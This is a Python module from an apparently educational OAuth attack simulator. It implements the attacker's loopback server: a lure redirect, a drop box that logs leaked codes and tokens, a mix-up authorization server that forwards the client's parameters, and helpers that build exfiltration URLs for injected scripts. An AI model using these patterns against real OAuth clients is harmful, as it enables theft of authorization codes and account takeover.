"""The attacker party: a server of the attacker's own on loopback, and the attacker's HTTP
clients.

The server (`create_app`) is what the attack scenarios need the attacker to run:

GET  /go?to=URL     a page the victim is lured to; it sends the victim's browser on to URL
                    (a crafted authorization link, or a callback carrying the attacker's code)
GET  /anything      a drop box: every other GET (e.g. /steal, /spa/callback) records the codes,
                    tokens and state it carries. It is where a leaked authorization response
                    lands: a tampered redirect_uri, or a malicious app that registered the
                    same redirect URI on the victim's device.
GET  /authorize     a malicious authorization server (mix-up): it records the client's request
                    and forwards the browser to the honest server's /authorize with the same
                    client_id, redirect_uri, state and PKCE challenge
POST /token         the malicious server's token endpoint: records what the client sends
GET  /loot?flow=ID  what was recorded for one flow (untraced: the scenario's own plumbing)

Like every party it is wrapped in the tracing middleware, so everything the attacker's
server receives is in the trace, and drawn in red.
"""

from __future__ import annotations

import threading
from typing import Any
from urllib.parse import urlsplit

import requests
from flask import Flask, Response, current_app, jsonify, redirect, request

from sim.parties import ATTACKER, AUTHORIZATION_SERVER, DEFAULT_URLS, FLOW_HEADER
from sim.security_headers import add_security_headers
from sim.tracing import TracingMiddleware, party_session
from sim.user_agent import UserAgent

#: The client's registration at the attacker's authorization server (mix-up). The attacker
#: chose the same client_id as at the honest server; the secret is the attacker's to know.
MIXUP_CLIENT_ID = "demo-client"
MIXUP_CLIENT_SECRET = "secret-issued-by-attacker-as"

DEFAULTS: dict[str, Any] = {
    "BASE_URL": DEFAULT_URLS[ATTACKER],
    "HONEST_ISSUER": DEFAULT_URLS[AUTHORIZATION_SERVER],
    "TRACE_STORE": None,
    "SESSION_COOKIE_NAME": "sim_attacker_session",
}

PAGE = (
    "<!doctype html><title>Totally harmless page</title>"
    "<p>Nothing to see here. (This page belongs to the attacker.)</p>"
)


def authorization_server_registration(attacker_url: str) -> dict[str, str]:
    """How the client knows the attacker's authorization server (for the mix-up scenario):
    the same shape as the client's entry for its honest server."""
    return {
        "issuer": attacker_url,
        "authorization_endpoint": attacker_url + "/authorize",
        "token_endpoint": attacker_url + "/token",
        "client_id": MIXUP_CLIENT_ID,
        "client_secret": MIXUP_CLIENT_SECRET,
    }


class Loot:
    """What reached the attacker's server, per flow (thread-safe, in memory)."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._items: dict[str, list[dict[str, Any]]] = {}

    def add(self, flow: str, item: dict[str, Any]) -> None:
        with self._lock:
            self._items.setdefault(flow, []).append(item)

    def get(self, flow: str) -> list[dict[str, Any]]:
        with self._lock:
            return [dict(i) for i in self._items.get(flow, [])]


def _flow() -> str:
    return request.headers.get(FLOW_HEADER) or "live"


def _record(kind: str) -> None:
    current_app.extensions["loot"].add(
        _flow(),
        {
            "kind": kind,
            "method": request.method,
            "path": request.path,
            "params": {k: v for k, v in request.values.items(multi=False)},
            "authorization": request.headers.get("Authorization"),
        },
    )


def _is_web_url(target: str) -> bool:
    """An http(s) URL a Location header can carry (no CR/LF or other control characters,
    which Werkzeug refuses with a 500): anything else just gets the page."""
    try:
        scheme = urlsplit(target).scheme
    except ValueError:  # e.g. "http://["
        return False
    return scheme in ("http", "https") and target.isprintable()


def create_app(config: dict[str, Any] | None = None) -> Flask:
    """The attacker's server; `config` gives its own URL and the honest server's issuer."""
    app = Flask(__name__)
    app.config.from_mapping(DEFAULTS)
    app.config.update(config or {})
    app.extensions["loot"] = Loot()

    @app.get("/healthz")
    def healthz():
        return {"status": "ok", "party": ATTACKER}

    @app.get("/loot")
    def loot():
        return jsonify({"loot": current_app.extensions["loot"].get(request.args.get("flow", ""))})

    @app.get("/go")
    def go():
        # The lure: any page of the attacker's can send the browser anywhere.
        target = request.args.get("to", "")
        if not _is_web_url(target):
            return Response(PAGE, mimetype="text/html")
        _record("lure")
        return redirect(target)

    @app.get("/authorize")
    def authorize():
        # Mix-up: the client believes it talks to this server. Forward the user to the
        # honest one with the client's own parameters, so the honest server issues a code
        # for the client and sends it to the client's (shared) callback.
        _record("authorization-request")
        keep = (
            "response_type",
            "client_id",
            "redirect_uri",
            "scope",
            "state",
            "code_challenge",
            "code_challenge_method",
        )
        params = {k: request.args[k] for k in keep if k in request.args}
        honest = current_app.config["HONEST_ISSUER"] + "/authorize"
        return redirect(requests.Request("GET", honest, params=params).prepare().url or honest)

    @app.post("/token")
    def token():
        _record("token-request")
        response = jsonify(
            {"error": "invalid_grant", "error_description": "Please try again later."}
        )
        response.status_code = 400
        response.headers["Cache-Control"] = "no-store"
        return response

    @app.get("/")
    @app.get("/<path:anything>")
    def drop_box(anything: str = ""):
        _record("leak")
        return Response(PAGE, mimetype="text/html")

    app.after_request(add_security_headers)
    inner = app.wsgi_app
    traced = TracingMiddleware(inner, ATTACKER, app.config["TRACE_STORE"])

    def dispatch(environ, start_response):
        # /loot is the simulator reading the attacker's notes, not part of any attack.
        if environ.get("PATH_INFO") == "/loot":
            return inner(environ, start_response)
        return traced(environ, start_response)

    app.wsgi_app = dispatch  # type: ignore[method-assign]
    return app


class Attacker:
    """The attacker's side of one flow: a browser of their own (`browser`), a plain HTTP
    client for direct calls (`http`), and a look at what their server collected (`loot`)."""

    def __init__(self, flow: str, server_url: str, store: Any = None) -> None:
        self.flow = flow
        self.server_url = server_url
        self.browser = UserAgent(flow, party=ATTACKER)
        self.http = party_session(ATTACKER, store, flow)
        self.http.headers[FLOW_HEADER] = flow

    def lure(self, target: str) -> str:
        """A link to the attacker's page that sends the victim's browser on to `target`."""
        return requests.Request("GET", self.server_url + "/go", params={"to": target}).prepare().url

    def drop_box(self, **params: str) -> str:
        """A URL on the attacker's server that records `params` when a browser loads it
        (how a script injected into a page sends what it stole)."""
        return requests.Request("GET", self.server_url + "/steal", params=params).prepare().url

    def loot(self, kind: str | None = None) -> list[dict[str, Any]]:
        """What the attacker's server recorded in this flow (optionally of one kind)."""
        with requests.Session() as plain:
            plain.trust_env = False
            response = plain.get(self.server_url + "/loot", params={"flow": self.flow}, timeout=10)
        items = response.json()["loot"]
        return [i for i in items if kind is None or i["kind"] == kind]

    def close(self) -> None:
        self.browser.session.close()
        self.http.close()
